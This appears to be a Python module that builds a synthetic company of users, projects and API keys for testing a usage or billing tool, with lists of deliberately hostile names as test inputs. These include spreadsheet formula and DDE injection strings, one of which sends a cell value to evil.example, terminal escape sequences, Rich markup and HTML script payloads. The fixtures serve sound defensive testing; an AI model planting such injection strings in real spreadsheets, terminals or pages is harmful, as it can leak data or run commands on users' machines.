"""Who is in the synthetic company: its users, projects and keys, the events they make, and the
names a hostile member would give them."""

from __future__ import annotations

import random
from dataclasses import dataclass

HOUR = 3600
DAY = 86400
Dims = tuple[str | bool | None, ...]


@dataclass(frozen=True, slots=True)
class SimUser:
    id: str
    name: str
    email: str
    role: str
    added_at: int


@dataclass(frozen=True, slots=True)
class SimProject:
    id: str
    name: str
    created_at: int
    archived_at: int | None
    vector_stores: tuple[str, ...]


@dataclass(frozen=True, slots=True)
class SimKey:
    id: str
    name: str
    project_id: str
    owner_type: str  # "user" or "service_account"
    owner_id: str
    owner_name: str
    owner_email: str | None
    created_at: int
    deleted_at: int | None
    owner_has_access: bool
    models: tuple[str, ...]
    sources: frozenset[str]
    weight: float

    @property
    def user_id(self) -> str | None:
        # Usage made with a service account's key is not attributed to a user.
        return self.owner_id if self.owner_type == "user" else None

    def active(self, ts: int, projects: dict[str, SimProject]) -> bool:
        archived = projects[self.project_id].archived_at
        return (
            self.created_at <= ts
            and (self.deleted_at is None or ts < self.deleted_at)
            and (archived is None or ts < archived)
        )


@dataclass(frozen=True, slots=True)
class CostLine:
    line_item: str
    micros: int
    quantity: int
    unit: str


@dataclass(frozen=True, slots=True)
class Event:
    source: str
    ts: int
    dims: Dims
    metrics: tuple[tuple[str, int], ...]
    costs: tuple[CostLine, ...]
    complimentary: bool = False


PEOPLE_NAMES = (
    "Jane Smith",
    "Arjun Patel",
    "Mei Chen",
    "Lucas Oliveira",
    "Fatima Al-Sayed",
    "Tom Becker",
    "Sofia Rossi",
    "Kwame Mensah",
)
HOSTILE_KEY_NAMES = (
    '=HYPERLINK("http://evil.example/?"&B2,"Click")',
    "default",
    "default",
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\tleading-tab",
    "\rcarriage-return",
    "[link=http://evil.example]billing[/link]",
    "\x1b[31mred\x1b[0m\x07\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "<script>alert('key')</script>",
    "default",
)
"""Key names an outside check uses: live formulas, Rich markup, terminal escapes, HTML, and
"default" thrice (OpenAI keys often share a name)."""
HOSTILE_USER_NAMES = (
    "=1+1",
    "[bold red]Mallory[/bold red]",
    "Eve\x1b[2J\x1b[H",
    "<img src=x onerror=alert('user')>",
    "Sam Lee",
    "Sam Lee",
    "@Trudy",
    "Bidi \u202eevil\u202c name",
)
HOSTILE_PROJECT_NAMES = (
    "=cmd|' /C calc'!A0",
    "default",
    "default",
    "[italic]Project[/italic]",
    "Legacy Chat",
)
PROJECT_NAMES = ("Support Bot", "Research", "Data Pipeline", "Internal Tools", "Legacy Chat")


def ident(rng: random.Random, prefix: str, n: int = 16) -> str:
    alphabet = "ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz23456789"
    return prefix + "".join(rng.choice(alphabet) for _ in range(n))
